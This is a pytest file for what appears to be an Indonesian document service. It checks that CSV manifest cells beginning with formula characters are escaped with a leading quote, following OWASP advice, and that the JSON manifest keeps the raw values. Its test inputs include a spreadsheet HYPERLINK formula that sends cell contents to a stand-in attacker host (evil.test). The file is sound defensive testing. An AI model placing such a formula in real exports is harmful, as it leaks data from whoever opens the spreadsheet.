"""CSV injection: a batch's manifest.csv shows refs and errors that start a formula as text (a leading
quote, as OWASP advises), while manifest.json keeps them exactly as sent."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from sakip.cells import text_cell
from tests.conftest import example

HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"klik")', "+62-811", "-1+1", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_is_quoted(value):
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["A-1", "pegawai 7", "", "1.5", 42, None, "'quoted already"])
def test_plain_cells_are_left_alone(value):
    assert text_cell(value) == value


def test_the_batch_manifest_csv_escapes_every_formula(client, run_bulk_worker):
    data = example("pk-jpt")["data"]
    items = [{"ref": ref, "data": data} for ref in HOSTILE]
    bad = json.loads(json.dumps(data))
    bad["pihak_pertama"]["nip"] = "123"
    items.append({"ref": "=1+1", "data": bad})
    response = client.post("/api/v1/batches", json={"type": "pk", "items": items})
    assert response.status_code == 202, response.get_json()
    run_bulk_worker()
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/api/v1/batches/{response.get_json()['id']}/archive").data))
    text = archive.read("manifest.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r["ref"] for r in rows] == ["'" + ref for ref in [*HOSTILE, "=1+1"]]
    assert [r["status"] for r in rows] == ["finished"] * len(HOSTILE) + ["failed"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert [m["ref"] for m in json.loads(archive.read("manifest.json"))] == [*HOSTILE, "=1+1"]
